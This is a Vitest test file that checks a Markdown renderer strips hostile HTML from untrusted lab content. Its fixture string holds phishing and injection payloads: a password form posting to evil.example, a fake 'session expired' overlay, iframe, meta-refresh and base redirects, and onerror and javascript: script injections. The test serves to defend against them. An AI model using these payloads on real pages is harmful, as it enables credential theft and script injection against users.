// @vitest-environment jsdom
// Lab text from anyone (a lab file, a shared link) rendered as the page shows it: what a malicious lab could use to
// pass for the page itself is dropped, the Markdown a lab needs stays.
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../../src/ui/labs/markdown.ts'

const MALICIOUS = `# Step 1

Sync the app, then check **Healthy**.

<form action="https://evil.example/steal" method="post">
  <label>Password <input type="password" name="pw"></label>
  <textarea name="t"></textarea><select name="s"><option>a</option></select>
  <button type="submit">Log in again</button>
</form>

<style>body { display: none } .app { visibility: hidden }</style>
<div style="position:fixed;inset:0;z-index:9999;background:white">Your session expired</div>
<p class="app-header" id="app">looks like the page</p>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<img src="x" onerror="alert(1)">
<a href="javascript:alert(1)">click</a>
<script>alert(1)</script>

\`\`\`yaml
kind: Job
\`\`\`
`

describe('renderMarkdown', () => {
  const html = renderMarkdown(MALICIOUS)
  const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')

  it.each(['form', 'input', 'textarea', 'select', 'option', 'button', 'label', 'style', 'iframe', 'object', 'embed',
    'link', 'meta', 'base', 'script'])('drops <%s> elements', tag => {
    expect(doc.querySelectorAll(tag)).toHaveLength(0)
  })

  it('drops style, class, id, event handler and javascript: attributes', () => {
    for (const el of doc.body.querySelectorAll('*')) {
      for (const attr of ['style', 'class', 'id', 'onerror', 'action', 'srcdoc']) expect(el.hasAttribute(attr)).toBe(false)
      expect(el.getAttribute('href') ?? '').not.toMatch(/^javascript:/i)
    }
    expect(html).not.toMatch(/position:\s*fixed|display:\s*none/)
  })

  it('keeps the Markdown a lab needs: headings, emphasis, text, links, images and code', () => {
    expect(doc.querySelector('h1')?.textContent).toBe('Step 1')
    expect(doc.querySelector('strong')?.textContent).toBe('Healthy')
    expect(doc.querySelector('pre code')?.textContent).toBe('kind: Job\n')
    expect(doc.body.textContent).toContain('Your session expired') // the text stays, without its overlay
    expect(doc.querySelector('a')?.textContent).toBe('click')
    expect(doc.querySelector('img')?.getAttribute('src')).toBe('x')
  })
})
